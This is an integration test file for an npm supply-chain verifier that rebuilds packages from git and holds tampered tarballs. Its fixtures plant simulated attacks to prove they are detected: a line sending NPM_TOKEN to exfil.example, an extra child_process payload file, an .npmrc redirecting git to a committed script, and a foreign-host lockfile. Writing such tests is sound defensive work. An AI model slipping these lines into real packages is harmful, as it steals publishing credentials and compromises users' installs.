/**
 * The source integrity layer on real git repositories published with the real npm to a real
 * upstream Verdaccio. `https://github.com/acme/` is mapped to a directory of bare repositories
 * (`file://`), and in one case to a `git daemon` on loopback; the real github.com is not
 * reachable here, which the unmapped case relies on. Most cases run the layer directly; the
 * last drives vetted itself to see the verdict and the 403.
 */
import { after, before, describe, it } from 'node:test';
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import assert from 'node:assert/strict';
import { chmod, mkdir, mkdtemp, rm, symlink, unlink, writeFile } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { createServer } from 'node:net';
import type { AddressInfo, Socket } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createSourceLayer } from '../../src/verify/layers/source-integrity';
import type { SourceLayer, SourceResult } from '../../src/verify/layers/source-integrity';
import type { Finding } from '../../src/types';
import { bumpVersion, createGitPackage } from '../helpers/fixtures';
import { createUser, startVerdaccio } from '../helpers/verdaccio';
import type { RunningVerdaccio } from '../helpers/verdaccio';
import { startVetted, waitForStatus } from '../helpers/vetted';
import {
  git,
  inputFrom,
  makeGpgKey,
  makeSshKey,
  publishWith,
  publishWithoutGit,
  pushToHost,
  startGitDaemon,
  tag,
} from '../helpers/source-repos';

const REPO_ROOT = path.resolve(__dirname, '..', '..', '..');
const EMAIL = 'vetted-test@example.invalid';

const codes = (r: SourceResult) => r.findings.map((f) => f.code).sort();
const find = (r: SourceResult, code: string, file?: string): Finding => {
  const f = r.findings.find(
    (x) => x.code === code && (file === undefined || x.evidence?.path === file),
  );
  assert.ok(f, `no ${code} ${file ?? ''} in ${JSON.stringify(r, null, 1)}`);
  return f;
};

describe('the source integrity layer', () => {
  let root: string;
  let hostRoot: string;
  let upstream: RunningVerdaccio;
  let token: string;
  let layer: SourceLayer;
  let marker: string;
  let prCommit: string;
  let prBare: string;
  const dirs: Record<string, string> = {};
  const run = async (name: string, version: string, l = layer) =>
    l.run(await inputFrom(upstream.url, name, version));

  before(async () => {
    root = await mkdtemp(path.join(tmpdir(), 'vetted-source-test-'));
    hostRoot = path.join(root, 'githost');
    upstream = await startVerdaccio({ dir: path.join(root, 'upstream') });
    token = await createUser(upstream.url, 'publisher', 'publisher-password-1');
    const ssh = await makeSshKey(path.join(root, 'keys'), EMAIL);
    const other = await makeSshKey(path.join(root, 'other-keys'), EMAIL);
    const gpg = await makeGpgKey(path.join(root, 'gpg'), EMAIL);
    // the TypeScript fixture's build dependency, served by the upstream
    await publishWith(path.join(REPO_ROOT, 'node_modules', 'typescript'), upstream.url, token, [
      '--ignore-scripts',
    ]);

    // pure JS: 1.0.0 honest, 1.1.0 with a file the repository never had, 1.2.0 untagged and
    // without gitHead, 1.3.0 with no source at all
    const plain = await createGitPackage(path.join(root, 'repos'), {
      name: 'vt-src-plain',
      version: '1.0.0',
      packageJson: { repository: 'github:acme/vt-src-plain' },
      files: {
        'index.js': "module.exports = require('./lib/util');\n",
        'lib/util.js': 'module.exports = (a, b) => a + b;\n',
        'README.md': '# vt-src-plain\n',
      },
    });
    dirs.plain = plain;
    await tag(plain, 'v1.0.0');
    await publishWith(plain, upstream.url, token);
    await bumpVersion(plain, '1.1.0');
    await tag(plain, 'v1.1.0');
    await writeFile(path.join(plain, 'lib', 'payload.js'), "require('child_process');\n");
    await publishWith(plain, upstream.url, token);
    await unlink(path.join(plain, 'lib', 'payload.js'));
    await bumpVersion(plain, '1.2.0');
    await publishWithoutGit(plain, upstream.url, token);
    await writeFile(
      path.join(plain, 'package.json'),
      JSON.stringify({
        name: 'vt-src-plain',
        version: '1.3.0',
        main: 'index.js',
        repository: 'github:acme/vt-src-plain',
      }),
    );
    await publishWithoutGit(plain, upstream.url, token);
    await git(plain, 'checkout', '--', 'package.json');
    await pushToHost(plain, hostRoot, 'vt-src-plain');

    // TypeScript build (prepare: tsc): 1.0.0 honest, 1.1.0 with one line added to the output
    const ts = await createGitPackage(path.join(root, 'repos'), {
      name: 'vt-src-ts',
      version: '1.0.0',
      packageJson: {
        repository: { type: 'git', url: 'git+https://github.com/acme/vt-src-ts.git' },
        main: 'dist/index.js',
        types: 'dist/index.d.ts',
        files: ['dist'],
        scripts: { prepare: 'tsc' },
        devDependencies: { typescript: '5.9.3' },
      },
      files: {
        '.gitignore': 'node_modules\ndist\n',
        'tsconfig.json': JSON.stringify({
          compilerOptions: {
            outDir: 'dist',
            declaration: true,
            module: 'commonjs',
            target: 'es2020',
          },
          include: ['src'],
        }),
        'src/index.ts': 'export function add(a: number, b: number): number {\n  return a + b;\n}\n',
      },
    });
    dirs.ts = ts;
    await mkdir(path.join(ts, 'node_modules', '.bin'), { recursive: true });
    await symlink(
      path.join(REPO_ROOT, 'node_modules', 'typescript'),
      path.join(ts, 'node_modules', 'typescript'),
    );
    await symlink('../typescript/bin/tsc', path.join(ts, 'node_modules', '.bin', 'tsc'));
    await tag(ts, 'v1.0.0');
    await publishWith(ts, upstream.url, token);
    await bumpVersion(ts, '1.1.0');
    await tag(ts, 'v1.1.0');
    await git(ts, 'status', '--short');
    execFileSync(process.execPath, [path.join(ts, 'node_modules', 'typescript', 'bin', 'tsc')], {
      cwd: ts,
    });
    await writeFile(
      path.join(ts, 'dist', 'index.js'),
      readFileSync(path.join(ts, 'dist', 'index.js'), 'utf8') +
        "require('https').get('https://exfil.example/' + process.env.NPM_TOKEN);\n",
    );
    await publishWith(ts, upstream.url, token, ['--ignore-scripts']);
    await pushToHost(ts, hostRoot, 'vt-src-ts');

    // a monorepo: workspace packages/vt-mono-a, tagged name@version, published without gitHead
    const mono = path.join(root, 'repos', 'vt-mono');
    await mkdir(path.join(mono, 'packages', 'vt-mono-a'), { recursive: true });
    await writeFile(
      path.join(mono, 'package.json'),
      JSON.stringify({ name: 'vt-mono', private: true, workspaces: ['packages/*'] }, null, 2),
    );
    await writeFile(
      path.join(mono, 'packages', 'vt-mono-a', 'package.json'),
      JSON.stringify(
        {
          name: 'vt-mono-a',
          version: '1.0.0',
          main: 'index.js',
          license: 'MIT',
          repository: {
            type: 'git',
            url: 'https://github.com/acme/vt-mono.git',
            directory: 'packages/vt-mono-a',
          },
        },
        null,
        2,
      ),
    );
    await writeFile(path.join(mono, 'packages', 'vt-mono-a', 'index.js'), 'module.exports = 1;\n');
    await git(mono, 'init', '--quiet', '--initial-branch=main');
    await git(mono, 'add', '--all');
    await git(
      mono,
      '-c',
      `user.name=Vetted Test`,
      '-c',
      `user.email=${EMAIL}`,
      'commit',
      '--quiet',
      '-m',
      'a 1.0.0',
    );
    await git(
      mono,
      '-c',
      `user.name=Vetted Test`,
      '-c',
      `user.email=${EMAIL}`,
      'tag',
      '-a',
      'vt-mono-a@1.0.0',
      '-m',
      'a',
    );
    await publishWithoutGit(path.join(mono, 'packages', 'vt-mono-a'), upstream.url, token);
    await pushToHost(mono, hostRoot, 'vt-mono');

    // signed tags: 1.0.0 SSH-signed with the trusted key, 1.1.0 unsigned, 1.2.0 signed with
    // another key, 1.3.0 GPG-signed with the trusted GPG key
    const signed = await createGitPackage(path.join(root, 'repos'), {
      name: 'vt-src-signed',
      version: '1.0.0',
      packageJson: { repository: 'https://github.com/acme/vt-src-signed' },
    });
    dirs.signed = signed;
    await tag(signed, 'v1.0.0', { ssh: ssh.key });
    await publishWith(signed, upstream.url, token);
    await bumpVersion(signed, '1.1.0');
    await tag(signed, 'v1.1.0');
    await publishWith(signed, upstream.url, token);
    await bumpVersion(signed, '1.2.0');
    await tag(signed, 'v1.2.0', { ssh: other.key });
    await publishWith(signed, upstream.url, token);
    await bumpVersion(signed, '1.3.0');
    await tag(signed, 'v1.3.0', { gpg: gpg.fingerprint, gnupgHome: gpg.gnupgHome });
    await publishWith(signed, upstream.url, token);
    await pushToHost(signed, hostRoot, 'vt-src-signed');

    // the reviewer's shape: a .npmrc pointing npm's git at a committed script, and a git
    // devDependency that would make npm run it on the host. 1.1.0: a lockfile resolving a
    // registry package from another host; 1.2.0: one resolving it from the public registry
    marker = path.join(root, 'tools-git-ran');
    const evil = await createGitPackage(path.join(root, 'repos'), {
      name: 'vt-src-evil',
      version: '1.0.0',
      packageJson: {
        repository: 'github:acme/vt-src-evil',
        files: ['index.js'],
        devDependencies: { x: 'git+https://github.com/acme/x.git' },
      },
      files: {
        'index.js': 'module.exports = 1;\n',
        '.npmrc': 'git=./tools/git\n',
        'tools/git': `#!/bin/sh\necho "uid=$(id -u) $*" >> '${marker}'\nexit 1\n`,
      },
    });
    await chmod(path.join(evil, 'tools', 'git'), 0o755);
    await git(evil, 'add', '--all');
    await git(evil, 'commit', '--quiet', '--amend', '--no-edit');
    await tag(evil, 'v1.0.0');
    await publishWith(evil, upstream.url, token);
    const tsIntegrity = (await inputFrom(upstream.url, 'typescript', '5.9.3')).manifest.dist as {
      integrity: string;
    };
    const lockWith = (resolved: string) =>
      JSON.stringify({
        name: 'vt-src-evil',
        lockfileVersion: 3,
        requires: true,
        packages: {
          '': { name: 'vt-src-evil', devDependencies: { typescript: '5.9.3' } },
          'node_modules/typescript': {
            version: '5.9.3',
            resolved,
            integrity: tsIntegrity.integrity,
            dev: true,
            license: 'Apache-2.0',
            bin: { tsc: 'bin/tsc', tsserver: 'bin/tsserver' },
            engines: { node: '>=14.17' },
          },
        },
      });
    const bumpEvil = async (version: string, resolved: string) => {
      const pkg = JSON.parse(readFileSync(path.join(evil, 'package.json'), 'utf8')) as Record<
        string,
        unknown
      >;
      pkg.version = version;
      pkg.devDependencies = { typescript: '5.9.3' };
      await writeFile(path.join(evil, 'package.json'), JSON.stringify(pkg, null, 2));
      await writeFile(path.join(evil, 'package-lock.json'), lockWith(resolved));
      await git(evil, 'add', '--all');
      await git(evil, 'commit', '--quiet', '-m', version);
      await tag(evil, `v${version}`);
      await publishWith(evil, upstream.url, token);
    };
    await bumpEvil('1.1.0', 'http://127.0.0.1:9/typescript.tgz');
    await bumpEvil('1.2.0', 'https://registry.npmjs.org/typescript/-/typescript-5.9.3.tgz');
    // 1.3.0: a build dependency the upstream does not have, so npm fails and says where its log is
    const evilPkg = JSON.parse(readFileSync(path.join(evil, 'package.json'), 'utf8')) as Record<
      string,
      unknown
    >;
    evilPkg.version = '1.3.0';
    evilPkg.devDependencies = { 'vt-src-no-such-package': '^1.0.0' };
    await writeFile(path.join(evil, 'package.json'), JSON.stringify(evilPkg, null, 2));
    await unlink(path.join(evil, 'package-lock.json'));
    await git(evil, 'add', '--all');
    await git(evil, 'commit', '--quiet', '-m', '1.3.0');
    await tag(evil, 'v1.3.0');
    await publishWith(evil, upstream.url, token);
    await pushToHost(evil, hostRoot, 'vt-src-evil');
    await rm(marker, { force: true });

    // 1.1.0 published from a branch `pr` that later lives on only as refs/pull/7/head; 1.2.0
    // published from a commit after the one its release tag names
    const pr = await createGitPackage(path.join(root, 'repos'), {
      name: 'vt-src-pr',
      version: '1.0.0',
      packageJson: { repository: 'github:acme/vt-src-pr' },
    });
    await tag(pr, 'v1.0.0');
    await publishWith(pr, upstream.url, token);
    await git(pr, 'checkout', '--quiet', '-b', 'pr');
    await bumpVersion(pr, '1.1.0');
    await publishWith(pr, upstream.url, token);
    prCommit = await git(pr, 'rev-parse', 'HEAD');
    await git(pr, 'checkout', '--quiet', 'main');
    await bumpVersion(pr, '1.2.0');
    await tag(pr, 'v1.2.0');
    await bumpVersion(pr, '1.2.0', { 'README.md': '# changed after the tag\n' });
    await publishWith(pr, upstream.url, token);
    prBare = await pushToHost(pr, hostRoot, 'vt-src-pr');

    layer = createSourceLayer({
      upstream: upstream.url,
      root: path.join(root, 'sources'),
      mirrors: [{ from: 'https://github.com/acme/', to: `file://${hostRoot}/acme/` }],
      trustedKeys: { 'vt-src-signed': [ssh.allowedSigners, gpg.publicKey] },
    });
  });
  after(async () => {
    await upstream?.stop();
    if (root) await rm(root, { recursive: true, force: true });
  });

  describe('when the tarball is what the repository builds', () => {
    it('passes an honest pure-JS package, located by gitHead, with both integrities', async () => {
      const result = await run('vt-src-plain', '1.0.0');
      assert.equal(result.outcome, 'pass', JSON.stringify(result, null, 1));
      const located = find(result, 'SOURCE_LOCATED_BY');
      assert.equal(located.evidence?.method, 'gitHead');
      assert.equal(located.evidence?.tag, 'v1.0.0');
      assert.equal(
        result.summary?.commit,
        await git(dirs.plain as string, 'rev-parse', 'v1.0.0^{commit}'),
      );
      assert.match(result.summary?.rebuiltIntegrity ?? '', /^sha512-/);
      assert.deepEqual(
        codes(result).filter((c) => c.startsWith('REBUILD_') && c !== 'REBUILD_METADATA_ONLY'),
        [],
      );
    });

    it('passes an honest package whose prepare step compiles TypeScript', async () => {
      const result = await run('vt-src-ts', '1.0.0');
      assert.equal(result.outcome, 'pass', JSON.stringify(result, null, 1));
      assert.ok((result.summary?.files?.same ?? 0) >= 3, JSON.stringify(result.summary));
      assert.ok(
        (result.summary?.timings.installMs ?? 0) > 0,
        'the build dependencies were installed',
      );
    });

    it('locates and rebuilds a monorepo workspace by its name@version tag', async () => {
      const result = await run('vt-mono-a', '1.0.0');
      assert.equal(result.outcome, 'pass', JSON.stringify(result, null, 1));
      assert.equal(result.summary?.locatedBy, 'tag');
      assert.equal(result.summary?.tag, 'vt-mono-a@1.0.0');
      assert.equal(result.summary?.repository?.directory, 'packages/vt-mono-a');
    });
  });

  describe('when the tarball is not what the repository builds', () => {
    it('fails one line added to a built file, naming the file, its hashes and the line', async () => {
      const result = await run('vt-src-ts', '1.1.0');
      assert.equal(result.outcome, 'fail');
      const differs = find(result, 'REBUILD_FILE_DIFFERS', 'dist/index.js');
      assert.equal(differs.severity, 'high');
      assert.equal(differs.evidence?.class, 'build-output');
      assert.match(String(differs.evidence?.published), /^[0-9a-f]{64}$/);
      assert.notEqual(differs.evidence?.published, differs.evidence?.rebuilt);
      assert.match(
        String(differs.evidence?.diff),
        /^\+require\('https'\)\.get\('https:\/\/exfil\.example/m,
      );
      assert.deepEqual(
        result.findings
          .filter((f) => f.code.startsWith('REBUILD_FILE'))
          .map((f) => f.evidence?.path),
        ['dist/index.js'],
      );
      // 1.0.0 reproduced (the test before), 1.1.0 does not
      assert.match(find(result, 'REPRODUCIBILITY_REGRESSION').message, /1\.0\.0/);
    });

    it('fails a file in the tarball that the repository does not have', async () => {
      const result = await run('vt-src-plain', '1.1.0');
      assert.equal(result.outcome, 'fail');
      const extra = find(result, 'REBUILD_FILE_EXTRA', 'lib/payload.js');
      assert.equal(extra.evidence?.class, 'code');
      assert.equal(extra.evidence?.rebuilt, undefined);
      assert.deepEqual(
        result.findings
          .filter((f) => f.code.startsWith('REBUILD_FILE'))
          .map((f) => f.evidence?.path),
        ['lib/payload.js'],
      );
      assert.deepEqual(find(result, 'REPRODUCIBILITY_REGRESSION').evidence?.reproducedBefore, [
        '1.0.0',
      ]);
    });

    it('warns when the tag is missing and the commit is found by package.json version', async () => {
      const result = await run('vt-src-plain', '1.2.0');
      assert.equal(result.outcome, 'warn', JSON.stringify(result, null, 1));
      assert.equal(result.summary?.locatedBy, 'package-json-version');
      assert.equal(find(result, 'SOURCE_TAG_MISSING').severity, 'medium');
      assert.equal(result.summary?.commit, await git(dirs.plain as string, 'rev-parse', 'HEAD'));
    });

    it('fails a version no commit of the repository has', async () => {
      const result = await run('vt-src-plain', '1.3.0');
      assert.equal(result.outcome, 'fail', JSON.stringify(result, null, 1));
      assert.deepEqual(codes(result), ['SOURCE_NOT_FOUND']);
    });
  });

  describe("when the repository tries to steer the host's npm install", () => {
    it('runs no committed tools/git and rebuilds nothing with a git dependency', async () => {
      const result = await run('vt-src-evil', '1.0.0');
      assert.equal(existsSync(marker), false, 'tools/git ran on the host');
      assert.equal(result.outcome, 'unavailable', JSON.stringify(result, null, 1));
      assert.match(
        result.reason ?? '',
        /^install: devDependencies of package\.json: x is "git\+https:\/\/github\.com\/acme\/x\.git" \(git\), not a registry package$/,
      );
    });

    it('refuses a lockfile that resolves a package from another host', async () => {
      const result = await run('vt-src-evil', '1.1.0');
      assert.equal(result.outcome, 'unavailable', JSON.stringify(result, null, 1));
      assert.match(
        result.reason ?? '',
        /package-lock\.json: the lockfile resolves node_modules\/typescript from "http:\/\/127\.0\.0\.1:9\/typescript\.tgz", not from the registry/,
      );
    });

    it('installs from the upstream what a lockfile resolves from the public registry', async () => {
      const result = await run('vt-src-evil', '1.2.0');
      assert.equal(existsSync(marker), false, 'tools/git ran on the host');
      assert.equal(result.outcome, 'pass', JSON.stringify(result, null, 1));
      assert.ok((result.summary?.timings.installMs ?? 0) > 0, 'the lockfile was installed');
    });
  });

  describe("when npm fails, the reason keeps the server's paths out", () => {
    it("drops the line naming npm's debug log and the home path", async () => {
      const result = await run('vt-src-evil', '1.3.0');
      assert.equal(result.outcome, 'unavailable', JSON.stringify(result, null, 1));
      assert.match(result.reason ?? '', /^install: npm install exited 1: /);
      assert.match(result.reason ?? '', /vt-src-no-such-package/);
      assert.doesNotMatch(result.reason ?? '', /complete log|_logs/i);
      assert.ok(!(result.reason ?? '').includes(root), result.reason);
    });
  });

  describe('when gitHead is not what the repository released', () => {
    it('does not rebuild a commit that only refs/pull/7/head holds', async () => {
      const cached = createSourceLayer({
        upstream: upstream.url,
        root: path.join(root, 'sources-pr'),
        mirrors: [{ from: 'https://github.com/acme/', to: `file://${hostRoot}/acme/` }],
      });
      // cloned while branch `pr` still existed, so the clone keeps the commit; fetched again
      // (1.2.0's tag does not match) once only refs/pull/7/head holds it
      assert.equal((await run('vt-src-pr', '1.0.0', cached)).outcome, 'pass');
      await git(prBare, 'update-ref', 'refs/pull/7/head', prCommit);
      await git(prBare, 'branch', '-D', 'pr');
      assert.equal((await run('vt-src-pr', '1.2.0', cached)).outcome, 'fail');

      const stale = await run('vt-src-pr', '1.1.0', cached);
      assert.equal(stale.outcome, 'fail', JSON.stringify(stale, null, 1));
      assert.equal(find(stale, 'SOURCE_COMMIT_UNREACHABLE').evidence?.commit, prCommit);
      assert.equal(stale.summary?.rebuiltIntegrity, undefined, 'rebuilt anyway');

      const fresh = await run(
        'vt-src-pr',
        '1.1.0',
        createSourceLayer({
          upstream: upstream.url,
          root: path.join(root, 'sources-pr-fresh'),
          mirrors: [{ from: 'https://github.com/acme/', to: `file://${hostRoot}/acme/` }],
        }),
      );
      assert.equal(fresh.outcome, 'fail', JSON.stringify(fresh, null, 1));
      assert.deepEqual(codes(fresh), ['SOURCE_NOT_FOUND']);
      assert.equal(fresh.summary?.commit, undefined);
    });

    it('reports a release tag that points at another commit than gitHead', async () => {
      const result = await run('vt-src-pr', '1.2.0');
      assert.equal(result.outcome, 'fail', JSON.stringify(result, null, 1));
      const mismatch = find(result, 'SOURCE_TAG_MISMATCH');
      assert.equal(mismatch.evidence?.tag, 'v1.2.0');
      assert.equal(mismatch.evidence?.tagCommit, await git(prBare, 'rev-parse', 'v1.2.0^{commit}'));
      assert.equal(mismatch.evidence?.gitHead, await git(prBare, 'rev-parse', 'main'));
    });
  });

  describe('signatures, with keys configured for the package', () => {
    it('tells a tag signed with the trusted SSH key from an unsigned one and a foreign key', async () => {
      const good = await run('vt-src-signed', '1.0.0');
      assert.equal(good.outcome, 'pass', JSON.stringify(good, null, 1));
      assert.equal(good.summary?.signature?.status, 'signed');
      assert.match(find(good, 'SOURCE_SIGNED').message, /tag v1\.0\.0/);

      const unsigned = await run('vt-src-signed', '1.1.0');
      assert.equal(unsigned.summary?.signature?.status, 'unsigned');
      assert.equal(unsigned.outcome, 'warn');
      assert.ok(codes(unsigned).includes('SOURCE_UNSIGNED'));

      const foreign = await run('vt-src-signed', '1.2.0');
      assert.equal(foreign.summary?.signature?.status, 'bad');
      assert.equal(foreign.outcome, 'fail');
      assert.ok(codes(foreign).includes('SOURCE_SIGNATURE_BAD'));
    });

    it('verifies a GPG-signed tag with the configured armored key', async () => {
      const result = await run('vt-src-signed', '1.3.0');
      assert.equal(result.summary?.signature?.status, 'signed', JSON.stringify(result, null, 1));
      assert.equal(result.outcome, 'pass');
    });
  });

  describe('reaching repositories', () => {
    it('clones through a git daemon mirror on loopback', async () => {
      const daemon = await startGitDaemon(hostRoot);
      try {
        const viaDaemon = createSourceLayer({
          upstream: upstream.url,
          root: path.join(root, 'sources-daemon'),
          mirrors: [{ from: 'https://github.com/acme/', to: `${daemon.url}acme/` }],
        });
        const result = await run('vt-src-plain', '1.0.0', viaDaemon);
        assert.equal(result.outcome, 'pass', JSON.stringify(result, null, 1));
        assert.match(
          result.summary?.repository?.url ?? '',
          /^git:\/\/127\.0\.0\.1:\d+\/acme\/vt-src-plain\.git$/,
        );
      } finally {
        await daemon.stop();
      }
    });

    it('reuses the clone for later versions of one repository', async () => {
      const result = await run('vt-src-plain', '1.0.0');
      assert.equal(result.outcome, 'pass');
      assert.ok((result.summary?.timings.fetchMs ?? Infinity) < 5000);
    });

    it('reports no repository as unavailable', async () => {
      const input = await inputFrom(upstream.url, 'vt-src-plain', '1.0.0');
      const result = await layer.run({
        ...input,
        manifest: { ...input.manifest, repository: undefined },
      });
      assert.equal(result.outcome, 'unavailable');
      assert.equal(result.reason, 'no repository in package.json');
    });

    it('does not clone a file or loopback repository that only the manifest names', async () => {
      const input = await inputFrom(upstream.url, 'vt-src-plain', '1.0.0');
      const bare = `file://${hostRoot}/acme/vt-src-plain.git`;
      for (const repository of [`git+${bare}`, `git://127.0.0.1:9418/acme/vt-src-plain.git`]) {
        const result = await layer.run({ ...input, manifest: { ...input.manifest, repository } });
        assert.equal(result.outcome, 'unavailable', JSON.stringify(result, null, 1));
        assert.match(result.reason ?? '', /only cloned through a sources\.mirrors rule/);
        assert.equal(result.summary?.repository, undefined);
      }
    });

    it('fails fast on an unmapped unreachable host, then skips it at once', async () => {
      const direct = createSourceLayer({
        upstream: upstream.url,
        root: path.join(root, 'sources-direct'),
        probeTimeoutMs: 3000,
      });
      const input = await inputFrom(upstream.url, 'vt-src-plain', '1.0.0');
      let started = performance.now();
      const first = await direct.run(input);
      const firstMs = performance.now() - started;
      assert.equal(first.outcome, 'unavailable');
      assert.match(first.reason ?? '', /github\.com/);
      assert.ok(firstMs < 15_000, `took ${firstMs} ms`);
      started = performance.now();
      const second = await direct.run({ ...input, version: '1.1.0' });
      assert.ok(performance.now() - started < 1000);
      assert.match(second.reason ?? '', /skipped until/);
    });
  });

  describe('a host that accepts connections and never answers', () => {
    it('kills the clone at the time limit, then skips the host at once', async () => {
      const sockets = new Set<Socket>();
      const server = createServer((socket) => sockets.add(socket));
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      const port = (server.address() as AddressInfo).port;
      try {
        const hanging = createSourceLayer({
          upstream: upstream.url,
          root: path.join(root, 'sources-hanging'),
          mirrors: [{ from: 'https://github.com/acme/', to: `http://127.0.0.1:${port}/acme/` }],
          cloneTimeoutMs: 2000,
        });
        const input = await inputFrom(upstream.url, 'vt-src-plain', '1.0.0');
        let started = performance.now();
        const first = await hanging.run(input);
        assert.ok(performance.now() - started < 8000, `took ${performance.now() - started} ms`);
        assert.equal(first.outcome, 'unavailable');
        assert.match(first.reason ?? '', /did not finish in 2 s/);
        started = performance.now();
        const second = await hanging.run({ ...input, version: '1.1.0' });
        assert.ok(performance.now() - started < 1000);
        assert.match(second.reason ?? '', /skipped until/);
      } finally {
        for (const socket of sockets) socket.destroy();
        server.close();
      }
    });
  });

  describe('through vetted', () => {
    it('holds the tampered build with the file in the 403 and verifies the honest one', async () => {
      const vetted = await startVetted({
        upstream: upstream.url,
        options: {
          waitForVerdict: 0,
          sources: {
            mirrors: [{ from: 'https://github.com/acme/', to: `file://${hostRoot}/acme/` }],
          },
        },
      });
      try {
        await fetch(`${vetted.url}/vt-src-ts/-/vt-src-ts-1.0.0.tgz`);
        await fetch(`${vetted.url}/vt-src-ts/-/vt-src-ts-1.1.0.tgz`);
        const honest = await waitForStatus(vetted, 'vt-src-ts', '1.0.0', 240_000);
        assert.equal(honest.status, 'verified', JSON.stringify(honest, null, 1));
        const source = honest.layers.find((l: { layer: string }) => l.layer === 'source');
        assert.equal(source.outcome, 'pass');
        const tampered = await waitForStatus(vetted, 'vt-src-ts', '1.1.0', 240_000);
        assert.equal(tampered.status, 'held');
        assert.ok(
          tampered.reasons.some((r: string) =>
            /^REBUILD_FILE_DIFFERS: dist\/index\.js differs/.test(r),
          ),
          JSON.stringify(tampered.reasons),
        );
        const res = await fetch(`${vetted.url}/vt-src-ts/-/vt-src-ts-1.1.0.tgz`);
        assert.equal(res.status, 403);
        assert.match(
          res.headers.get('npm-notice') ?? '',
          /held: REBUILD_FILE_DIFFERS: dist\/index\.js/,
        );
      } finally {
        await vetted.stop();
      }
    });
  });
});
